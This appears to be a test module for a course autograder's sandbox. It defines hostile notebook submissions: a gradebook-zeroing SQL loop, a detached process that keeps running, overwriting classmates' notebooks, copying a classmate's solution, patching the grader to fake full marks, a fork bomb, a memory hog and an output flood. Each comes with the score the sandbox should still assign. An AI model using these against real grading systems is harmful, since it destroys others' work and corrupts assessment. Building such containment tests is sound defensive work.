"""Hostile submissions of `torch_pipeline`: each class of attack on the grader, and what it must earn.

Every attack below is written to profit if it worked: it would raise its own score, lower a
classmate's, or stall the class. In the sandbox it cannot, so each sample earns exactly what its
honest part earns, every classmate in the same batch keeps their expected score (the bank's
tests check all samples after each pass), no process it started outlives its notebook (every
process it starts carries `MARKER` on its command line), and the batch keeps its time budget.

The attacks look for the course where stock nbgrader runs a submission (the course directory
is three folders up: ``autograded/<student>/<assignment>/``) and anywhere above the working
folder, which is where a student who read the README would look.
"""

from __future__ import annotations

from . import Sample, full_marks, reference_cell, zero_marks

A = "torch_pipeline"
MARKER = "course-attack-7f3a"  # on the command line of every process an attack starts

FIND_COURSE = '''
import os, pathlib

def course_files(pattern):
    """Files matching `pattern` in the working folder's parents (where a course directory would be)."""
    found = []
    for folder in pathlib.Path.cwd().parents:
        if str(folder) in ("/", "/tmp"):
            break
        found += [p for p in folder.glob(pattern) if p.is_file()]
    return found
'''

FORGE_GRADEBOOK = FIND_COURSE + f'''
import subprocess, sys

FORGER = """
import sqlite3, sys, time
deadline = time.time() + float(sys.argv[1])
while True:  # every grade in every gradebook found, zeroed; again and again after the notebook ends
    for path in sys.argv[2:]:
        try:
            db = sqlite3.connect(path, timeout=1)
            db.execute("UPDATE grade SET auto_score = 0")
            db.commit()
        except Exception:
            pass
    if time.time() > deadline:
        break
    time.sleep(1)
"""
books = [str(p) for p in course_files("gradebook.db")]
subprocess.run([sys.executable, "-c", FORGER, "0", *books])  # now
subprocess.Popen([sys.executable, "-c", FORGER, "600", *books, "{MARKER}"], start_new_session=True,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)  # and later, for every later student
'''

OVERWRITE_CLASSMATES = FIND_COURSE + '''
mine = pathlib.Path.cwd()
for notebook in course_files("*/*/*/*.ipynb") + course_files("*/*/*.ipynb"):
    if notebook.parent != mine:
        try:
            notebook.write_text("this is not a notebook any more")
        except OSError:
            pass
'''

READ_CLASSMATE = FIND_COURSE + '''
import json
for notebook in course_files("submitted/*/torch_pipeline/torch_pipeline.ipynb"):
    if "reference" in str(notebook):  # the classmate whose work this submission takes as its own
        for cell in json.loads(notebook.read_text())["cells"]:
            if cell["metadata"].get("nbgrader", {}).get("solution"):
                exec("".join(cell["source"]), globals())
'''

STALL = f'''
import subprocess
# One inherits the kernel's output pipes; one is a daemon in a session of its own. Either would
# keep a grader waiting that waits for the end of its kernel's output, or for its process group.
subprocess.Popen(["sleep", "3600", "{MARKER}"])
subprocess.Popen(["sh", "-c", "sleep 3600 {MARKER}"], start_new_session=True)
'''

MEMORY_HOG = '''
import numpy as np
hog = np.ones(6 * 2**30 // 8)  # 6 GiB, more than the 4 GiB a submission may use
'''

FORK_BOMB = f'''
import os
while True:  # processes until the machine has no more to give
    if os.fork() == 0:
        os.execvp("sleep", ["sleep", "3600", "{MARKER}"])
'''

OUTPUT_FLOOD = '''
while True:  # output until the grader's memory is full
    print("spam " * 2000)
'''


# Issue 14: the verdict. Each hands in stubs that return None (or nothing of use) and tries to pass anyway.
STUBS = {
    "download": "def download(name='digits'):\n    return None\n",
    "load_and_preprocess": "def load_and_preprocess(raw, batch_size=64, validation_size=0.1, seed=0):\n    return None\n",
    "build_model": "class MLP:\n    pass\n\n\ndef build_model(input_dim, num_classes=10, hidden_units=128, seed=0):\n    return None\n",
    "make_loss_and_optimizer": "def make_loss_and_optimizer(model, learning_rate=1e-3):\n    return None, None\n",
    "accuracy": "def accuracy(logits, labels):\n    return None\n",
    "train": "def train(model, loss, optimizer, batches, epochs=10):\n    return None\n",
    "report": "def report(model, splits):\n    return None\n",
}
# the issue's four lines: rebind the hidden tests' grade and the checker's methods
PATCH_THE_GRADER = """
import graders.notebook
graders.notebook.grade = lambda *args, **kwargs: 3.0
graders.notebook.StepChecks.hidden = lambda self, *args: None
graders.notebook.StepChecks.public = lambda self, *args: None
graders.notebook.StepChecks.score_results = lambda self, *args, **kwargs: 3.0
"""
# the probe the grader runs in the kernel, and NumPy's writer, replaced: hand back an observation that claims nothing
# failed, with no values, or write nothing at all
PATCH_THE_PROBE = """
import numpy
import graders.observation
import graders.probe

graders.probe.run = lambda *args, **kwargs: graders.observation.write(args[4], graders.observation.Observation())
numpy.savez = lambda *args, **kwargs: None
"""
# the reference's source, found on disk and run as text under another name (new code objects)
RUN_THE_REFERENCE_TEXT = """
import os
import sys
import graders

_text = ""
for _base in [*sys.path, os.path.dirname(graders.__path__[0]), os.getcwd()]:
    if os.path.isfile(_path := os.path.join(_base, "solutions", "torch_pipeline.py")):
        _text = open(_path).read()
_namespace = {"__name__": "not_the_reference"}
exec(compile(_text, "copied.py", "exec"), _namespace)
download = _namespace.get("download")
"""


def _stubs(**first: str) -> dict[str, str]:
    """Every step a stub; `first` (grade id -> code) run before the stub of that cell."""
    return {grade_id: first.get(grade_id, "") + "\n" + stub for grade_id, stub in STUBS.items()}


def _with(grade_id: str, attack: str) -> dict[str, str]:
    """The reference's cell `grade_id` with `attack` run first."""
    return {grade_id: attack.strip("\n") + "\n\n\n" + reference_cell(A, grade_id)}


def _stopped_at(cell: str, limit: str) -> str:
    return f"{limit} exceeded in cell {cell} of {A}.ipynb"


LOST_FROM_ACCURACY = {"accuracy_tests": 0, "train_tests": 0, "report_tests": 0, "results_tests": 0}

ATTACKS = [
    Sample(
        "patches_the_grader",
        _stubs(download=PATCH_THE_GRADER),
        zero_marks(A),
        about="rebinds grade, StepChecks.hidden/public/score_results in its kernel; every step a stub returning None",
    ),
    Sample(
        "patches_the_probe",
        _stubs(download=PATCH_THE_PROBE),
        zero_marks(A),
        about="replaces the grader's probe (an empty observation) and numpy.savez in its kernel; every step a stub",
    ),
    Sample(
        "runs_the_reference_text",
        {"download": RUN_THE_REFERENCE_TEXT + "\n" + STUBS["download"].replace("def download", "def _unused")},
        full_marks(A, download_tests=0, results_tests=0),
        about="searches the disk for solutions/torch_pipeline.py and runs its text under another name: it is not there",
    ),
    Sample(
        "forges_gradebook",
        _with("download", FORGE_GRADEBOOK),
        full_marks(A),
        about="zeroes every grade in any gradebook.db it can reach, now and from a process left behind",
    ),
    Sample(
        "overwrites_classmates",
        _with("accuracy", OVERWRITE_CLASSMATES),
        full_marks(A),
        about="overwrites every other student's notebook it can reach with garbage",
    ),
    Sample(
        "reads_classmate",
        {"download": READ_CLASSMATE},
        zero_marks(A),
        base="release",
        about="hands in the stubs and runs a classmate's submitted solution cells instead",
    ),
    Sample(
        "stalls_the_class",
        _with("accuracy", STALL),
        full_marks(A),
        about="leaves two hour-long processes behind, one holding the kernel's output pipes",
    ),
    Sample(
        "memory_hog",
        _with("train", MEMORY_HOG),
        full_marks(A, train_tests=0, report_tests=0, results_tests=0),
        outcome=_stopped_at("train", "memory limit (4 GiB)"),
        about="allocates 6 GiB in the train cell: stopped there, steps 1-5 keep their points",
    ),
    Sample(
        "fork_bomb",
        _with("accuracy", FORK_BOMB),
        full_marks(A, **LOST_FROM_ACCURACY),
        outcome=_stopped_at("accuracy", "process limit (1024 tasks)"),
        about="forks until fork fails: stopped at the task cap in the accuracy cell, steps 1-4 keep their points",
    ),
    Sample(
        "output_flood",
        _with("accuracy", OUTPUT_FLOOD),
        full_marks(A, **LOST_FROM_ACCURACY),
        outcome=_stopped_at("accuracy", "output limit (16 MiB)"),
        about="prints without end: stopped at the output cap in the accuracy cell, steps 1-4 keep their points",
    ),
]
